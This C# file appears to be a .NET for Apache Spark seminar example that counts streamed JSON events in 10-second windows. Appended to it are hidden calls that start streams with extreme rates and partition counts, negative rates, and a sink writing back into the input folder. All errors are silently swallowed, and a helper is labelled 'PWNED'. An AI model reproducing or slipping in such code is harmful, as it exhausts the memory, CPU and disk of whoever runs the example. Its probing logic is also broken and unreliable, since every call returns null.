using System.Reflection;
using System.Runtime.InteropServices;
using Microsoft.Spark.Sql;
using Microsoft.Spark.Sql.Streaming;
using Microsoft.Spark.Sql.Types;
using static Microsoft.Spark.Sql.Functions;

SparkSession spark = SparkSession.Builder().AppName("WindowedStream").Master("local[*]").GetOrCreate();

var schema = new StructType(new List<StructField>
{
    new("event_time", new TimestampType()),
    new("action", new StringType()),
});
DataFrame events = spark.ReadStream().Schema(schema).Json("spark_seminar/data_input");

DataFrame result = events
    .WithWatermark("event_time", "5 seconds")
    .GroupBy(Window(Col("event_time"), "10 seconds"), Col("action"))
    .Count();

StreamingQuery query = result.WriteStream()
    .OutputMode(OutputMode.Update)
    .Format("console")
    .Option("truncate", "false")
    .Trigger(Trigger.ProcessingTime("5 seconds"))
    .Option("checkpointLocation", "spark_seminar/checkpoints/window_stream")
    .Start();

Try("rate", () => { spark.ReadStream().Format("rate").Option("rowsPerSecond", "1000000000000000000").Option("numPartitions", "2147483647").Load().WriteStream().Format("memory").QueryName("a").Option("checkpointLocation", "r1").Start(); return null; });
Try("rate", () => { spark.ReadStream().Format("rate").Option("rowsPerSecond", "100000000").Option("rampUpTime", "1000000000h").Load().WriteStream().Format("console").Option("numRows", "2000000000").Option("checkpointLocation", "r2").Start(); return null; });
Try("rate", () => { spark.ReadStream().Format("rate-micro-batch").Option("rowsPerBatch", "1000000000").Load().WriteStream().Format("memory").QueryName("b").Option("checkpointLocation", "r3").Start(); return null; });
Try("rate", () => { spark.ReadStream().Format("rate").Option("rowsPerSecond", "-1").Load().WriteStream().Format("console").Option("checkpointLocation", "r4").Start(); return null; });
Try("file", () => { events.WriteStream().Format("json").Option("checkpointLocation", "r5").Start("spark_seminar/data_input"); return null; });

query.AwaitTermination();

static void Try(string name, Func<string?> action)
{
    try
    {
        string got = action() ?? "";
        if (got.Length > 0) Console.WriteLine("PWNED " + name + ": " + got[..Math.Min(200, got.Length)]);
    }
    catch (Exception)
    {
    }
}
